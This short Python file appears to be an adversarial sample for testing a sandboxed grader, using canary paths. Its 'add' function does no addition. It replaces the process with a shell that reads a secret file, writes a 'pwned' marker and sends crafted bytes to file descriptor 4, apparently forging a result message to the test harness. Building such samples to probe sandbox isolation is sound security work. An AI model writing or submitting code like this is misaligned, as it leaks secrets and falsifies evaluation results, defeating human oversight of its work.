# becomes another program
import os
def add(a, b):
    os.execv("/bin/sh", ["sh", "-c", "cat /tmp/automerge-canary/secret644; echo LEAK-shell-wrote > /tmp/automerge-canary/drop/pwned; printf '\\000\\000\\000\\002T\\n' >&4"])
